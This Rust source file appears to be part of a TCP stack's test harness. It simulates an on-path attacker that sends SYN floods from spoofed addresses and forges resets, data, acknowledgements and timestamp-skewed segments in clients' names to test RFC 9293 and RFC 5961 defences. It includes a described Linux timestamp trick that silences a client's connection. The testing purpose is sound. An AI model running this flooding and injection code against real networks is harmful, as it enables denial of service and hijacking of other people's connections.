// SPDX-License-Identifier: GPL-3.0-only
//! An attacker on the clients' wire: floods of SYNs, and segments forged in the clients' names.
//!
//! It sees what the server sends, so it knows more than an attacker from afar; what it forges lies outside the windows,
//! where a TCP that follows RFC 9293 and RFC 5961 believes nothing of it.

use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::ops::Range;
use std::os::fd::OwnedFd;
use std::sync::mpsc::channel;
use std::thread::JoinHandle;

use fttcp::datapath::DataPath;
use fttcp::frame::{Offload, Output, PortId};
use fttcp::wire::{
    Address, Flags, OptionsRepr, Segment, SegmentRepr, SeqNumber, Timestamps, locate,
};
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use rustix::pipe::PipeFlags;

use super::layout::SERVER_MAC;
use super::random::Random;
use super::topology::{SERVER, Topology};

/// SYNs sent at a time, before the logger is waited for.
const BURST: u64 = 512;
/// How far outside the window forged segments lie.
const FAR: u32 = 1 << 30;
/// Forged data lies so far beyond a window of which the client uses no more than a few bytes at a time.
///
/// The attacker learns of a window later than the client; what the client sends meanwhile must not open it so far that
/// forged data lies inside, where every TCP takes it.
pub const BESIDE_A_STILL_WINDOW: Range<u32> = 16 << 10..76 << 10;
/// Likewise, of a client that may use all of it.
pub const BESIDE_ANY_WINDOW: Range<u32> = 16 << 20..17 << 20;

/// What was forged and sent.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Forged {
    /// Segments of the server that were seen and brought something new.
    pub seen: u64,
    /// Resets.
    pub resets: u64,
    /// Segments with data.
    pub data: u64,
    /// Of these, just beyond the window.
    pub beyond: u64,
    /// Acknowledgements of what was never sent, of what was long acknowledged, and from outside the window.
    pub acks: u64,
    /// SYNs and FINs on connections that exist.
    pub others: u64,
}

/// An attack under way.
#[derive(Debug)]
pub struct Attack {
    alive: Option<OwnedFd>,
    worker: JoinHandle<Result<Result<Forged, String>, String>>,
}

impl Attack {
    /// Begins to forge segments of each connection whose server is heard, `each` sets for each segment of the server.
    /// Some have data that lies `beyond` the window.
    ///
    /// # Errors
    /// What could not be started.
    pub fn forge(
        topology: &Topology,
        each: u64,
        beyond: Range<u32>,
        seed: u64,
    ) -> Result<Self, String> {
        let (end, alive) = rustix::pipe::pipe_with(PipeFlags::CLOEXEC)
            .map_err(|error| format!("no pipe: {error}"))?;
        let (ready, listens) = channel();
        let worker = topology.client().spawn(move || {
            let mut forger = Forger::new(beyond, seed)?;
            // If nobody waits for it any more, the pipe says so.
            let _ = ready.send(());
            forger.work(&end, each)?;
            Ok(forger.forged)
        })?;
        // If it breaks off before, `stop` tells why.
        let _ = listens.recv();
        Ok(Self {
            alive: Some(alive),
            worker,
        })
    }

    /// Ends it; what was done.
    ///
    /// # Errors
    /// It had broken off.
    pub fn stop(mut self) -> Result<Forged, String> {
        self.alive = None;
        self.worker.join().map_err(|_| "the attacker panicked")??
    }
}

/// Sends SYNs from as many sources, none of which will ever answer, as fast as the logger takes them.
///
/// # Errors
/// The frames could not be sent, or the logger does not answer.
pub fn flood(topology: &Topology, syns: u64, seed: u64) -> Result<(), String> {
    let before = north_frames(topology)?;
    let mut done = 0;
    while done < syns {
        let count = BURST.min(syns - done);
        let seed = seed ^ (done << 20);
        topology.client().enter(move || burst(count, seed))??;
        done += count;
        // Each answer lets the logger's event loop go round.
        while north_frames(topology)? < before + done.saturating_sub(2 * BURST) {}
    }
    Ok(())
}

/// On a connection of the client's that rests: asks, hears `answer` bytes, and then forges old acknowledgements of all
/// windows that it might have, with a clock far ahead. Linux believes the clock of one that it predicted (the next
/// number, the same window) before it looks at the acknowledgement, and from then on nothing of the client's.
///
/// # Errors
/// The connection failed, or the frames could not be sent.
pub fn misdate(
    topology: &Topology,
    stream: &TcpStream,
    ask: &[u8],
    answer: usize,
    seed: u64,
) -> Result<(), String> {
    let mut stream = stream.try_clone().map_err(|error| error.to_string())?;
    let ask = ask.to_vec();
    topology.client().enter(move || {
        let mut forger = Forger::new(BESIDE_ANY_WINDOW, seed)?;
        let mut answer = vec![0; answer];
        stream
            .write_all(&ask)
            .and_then(|()| stream.read_exact(&mut answer))
            .map_err(|error| format!("it is not answered: {error}"))?;
        let client = stream.local_addr().map_err(|error| error.to_string())?;
        // All of the answer has passed the interface by now.
        let newest = forger.newest();
        let mut seen = *newest
            .get(&client)
            .ok_or("the server's answer was not seen")?;
        if let Some(stamps) = &mut seen.stamps {
            stamps.echo = stamps.echo.wrapping_add(FAR / 2);
        }
        for window in 0..=u16::MAX {
            // The answer itself need not be acknowledged yet; what came before it is, by the request.
            for ago in [answer.len() as u32 + 1, FAR] {
                let ack = seen.said + (!ago + 1);
                forger.send(&seen, seen.next, ack, Flags::default(), window, &[]);
            }
        }
        Ok(())
    })?
}

/// Frames that have come to the logger from the clients' side.
fn north_frames(topology: &Topology) -> Result<u64, String> {
    let ports = topology.logger()?.hello()?.ports;
    let north = ports
        .iter()
        .find(|port| port.interface == super::topology::NORTH);
    north
        .map(|port| port.received + port.receive_drops)
        .ok_or_else(|| "the logger has no way north".to_owned())
}

fn open() -> Result<(DataPath, PortId), String> {
    let mut path = DataPath::new().map_err(|error| error.to_string())?;
    let port = path.open("eth0").map_err(|error| error.to_string())?;
    Ok((path, port))
}

fn server() -> Result<Address, String> {
    let ip: IpAddr = SERVER.parse().map_err(|_| "no address")?;
    Ok(Address {
        mac: SERVER_MAC,
        socket: SocketAddr::new(ip, super::storm::PORT),
    })
}

fn burst(count: u64, seed: u64) -> Result<(), String> {
    let (mut path, port) = open()?;
    let mut random = Random::new(seed);
    let mut frame = Vec::new();
    let dst = server()?;
    for _ in 0..count {
        let number = random.number();
        // 172.16.0.0/12: sources that are nobody here.
        let ip = Ipv4Addr::from(0xac10_0000 | (number as u32 & 0x000f_ffff));
        let socket = SocketAddr::new(ip.into(), 1024 + (number >> 32) as u16 % 60_000);
        let src = Address {
            mac: fttcp::wire::MacAddr([2, 0, 0, 0, 0x66, 6]),
            socket,
        };
        let options = OptionsRepr {
            mss: Some(1460),
            window_scale: Some(7),
            sack_permitted: true,
            timestamps: Some(Timestamps {
                value: number as u32,
                echo: 0,
            }),
        };
        SegmentRepr {
            src,
            dst,
            tags: &[],
            seq: SeqNumber(random.number() as u32),
            ack: SeqNumber(0),
            flags: Flags::SYN,
            urgent: 0,
            window: 64_240,
            options,
            payload: &[],
        }
        .emit(&mut frame);
        path.ports().transmit(port, &frame, &Offload::default());
    }
    Ok(())
}

#[derive(Debug)]
struct Forger {
    path: DataPath,
    port: PortId,
    random: Random,
    beyond: Range<u32>,
    frame: Vec<u8>,
    forged: Forged,
    /// The scale of the server's windows, by client.
    scales: HashMap<SocketAddr, u8>,
    /// How far each connection was when it was struck last, and the edge of its server's window.
    steps: HashMap<SocketAddr, (SeqNumber, SeqNumber, Option<SeqNumber>)>,
}

/// What the attacker learns from a segment of the server.
#[derive(Clone, Copy, Debug)]
struct Seen {
    client: Address,
    server: Address,
    /// What the client sends next, as far as the server has it.
    next: SeqNumber,
    /// What the server sends next.
    said: SeqNumber,
    /// The field of the server's window.
    window: u16,
    /// How many bytes came with it.
    data: u32,
    stamps: Option<Timestamps>,
}

impl Forger {
    fn new(beyond: Range<u32>, seed: u64) -> Result<Self, String> {
        let (path, port) = open()?;
        Ok(Self {
            path,
            port,
            random: Random::new(seed),
            beyond,
            frame: Vec::new(),
            forged: Forged::default(),
            scales: HashMap::new(),
            steps: HashMap::new(),
        })
    }

    fn work(&mut self, end: &OwnedFd, each: u64) -> Result<(), String> {
        loop {
            let descriptor = self.path.descriptor(self.port).ok_or("eth0 was closed")?;
            let mut fds = [
                PollFd::new(&descriptor, PollFlags::IN),
                PollFd::new(end, PollFlags::IN),
            ];
            poll(&mut fds, None::<&Timespec>).map_err(|error| error.to_string())?;
            if !fds[1].revents().is_empty() {
                return Ok(());
            }
            for seen in self.newest().into_values() {
                // Once for each step of a connection: what the server answers to a forged segment is no step.
                let edge = self.edge(&seen);
                let step = (seen.next, seen.said, edge);
                let before = self.steps.insert(seen.client.socket, step);
                if before.is_some_and(|(next, said, _)| (next, said) == (seen.next, seen.said)) {
                    continue;
                }
                self.forged.seen += 1;
                // A server that has nothing to read has a window that stands still.
                let still =
                    before.is_some_and(|(next, _, known)| (next, known) == (seen.next, edge));
                for _ in 0..each {
                    self.strike(&seen, edge.filter(|_| still));
                }
            }
        }
    }

    /// What waits: of each connection only what came last, for a window may have opened since the segments before.
    fn newest(&mut self) -> HashMap<SocketAddr, Seen> {
        let mut newest = HashMap::new();
        let mut more = true;
        while more {
            let (scales, before) = (&mut self.scales, newest.len());
            let mut count = 0;
            self.path.receive(self.port, |frame, offload, _| {
                count += 1;
                let seen = look(frame, &offload, scales);
                newest.extend(seen.map(|seen| (seen.client.socket, seen)));
            });
            more = count > 0 && before < newest.len();
        }
        newest
    }

    /// The right edge of the server's window; `None`: its scale is not known.
    fn edge(&self, seen: &Seen) -> Option<SeqNumber> {
        let scale = self.scales.get(&seen.client.socket)?;
        Some(seen.next + (u32::from(seen.window) << scale))
    }

    /// One of each kind. `edge`: where the server's window ends, if that stands still.
    fn strike(&mut self, seen: &Seen, edge: Option<SeqNumber>) {
        let (next, said) = (seen.next, seen.said);
        let far = next + (FAR + self.random.below(1 << 20) as u32);
        self.send(seen, far, said, Flags::RST, 0, &[]);
        self.send(seen, far, said, Flags::PSH, 500, &[0x66; 500]);
        self.forged.resets += 1;
        self.forged.data += 1;
        if let (true, Some(edge)) = (seen.data >= 500, edge) {
            // A client that is being answered has little on its way, so it is known where the window is.
            let Range { start, end } = self.beyond;
            let beyond = edge + (start + self.random.below(u64::from(end - start)) as u32);
            self.send(seen, beyond, said, Flags::PSH, 500, &[0x66; 500]);
            self.forged.data += 1;
            self.forged.beyond += 1;
            if edge.0.wrapping_sub(next.0) >= 40_000 {
                // In the window, but not where the next byte is due: only challenged (RFC 5961 section 3.2). At its end,
                // which a client that is being answered does not reach meanwhile.
                let inside = edge - (1 + self.random.below(10_000) as u32);
                self.send(seen, inside, said, Flags::RST, 0, &[]);
                self.forged.resets += 1;
            }
        }
        // What is on its way to the client is acknowledged from outside the window; what was never said; what was
        // acknowledged long ago.
        let ahead = 1 + self.random.below(30_000) as u32;
        for (seq, ack) in [
            (far, said + ahead),
            (next, said + FAR),
            (next, said + (!FAR + 1)),
        ] {
            self.send(seen, seq, ack, Flags::default(), 500, &[]);
            self.forged.acks += 1;
        }
        for flags in [Flags::SYN, Flags::FIN] {
            self.send(seen, far, said, flags, 500, &[]);
            self.forged.others += 1;
        }
    }

    fn send(
        &mut self,
        seen: &Seen,
        seq: SeqNumber,
        ack: SeqNumber,
        flags: Flags,
        window: u16,
        payload: &[u8],
    ) {
        let ahead = if self.random.below(2) == 0 { 0 } else { FAR };
        let timestamps = seen.stamps.map(|stamps| Timestamps {
            // Of the client's clock as it is, or far ahead of it.
            value: stamps.echo.wrapping_add(ahead),
            echo: stamps.value,
        });
        let opens = flags.has(Flags::SYN);
        SegmentRepr {
            src: seen.client,
            dst: seen.server,
            tags: &[],
            seq,
            ack: if opens { SeqNumber(0) } else { ack },
            flags: if opens { flags } else { flags.with(Flags::ACK) },
            window,
            urgent: 0,
            options: OptionsRepr {
                timestamps,
                ..OptionsRepr::default()
            },
            payload,
        }
        .emit(&mut self.frame);
        self.path
            .ports()
            .transmit(self.port, &self.frame, &Offload::default());
    }
}

/// What a frame of the server's tells.
fn look(frame: &mut [u8], offload: &Offload, scales: &mut HashMap<SocketAddr, u8>) -> Option<Seen> {
    let layout = locate(frame).ok()?;
    let segment = Segment::parse(frame, layout, offload).ok()?;
    let head = *segment.head();
    if ![super::storm::PORT, 80].contains(&layout.src.port()) || head.flags.has(Flags::RST) {
        return None;
    }
    if head.flags.has(Flags::SYN) {
        let scale = head.options.window_scale.unwrap_or(0);
        scales.insert(layout.dst, scale);
        return None;
    }
    let data = segment.payload().len() as u32;
    let ethernet = segment.ethernet();
    Some(Seen {
        client: Address {
            mac: ethernet.dst(),
            socket: layout.dst,
        },
        server: Address {
            mac: ethernet.src(),
            socket: layout.src,
        },
        next: head.ack,
        said: head.seq + data,
        window: head.window,
        data,
        stamps: head.options.timestamps,
    })
}
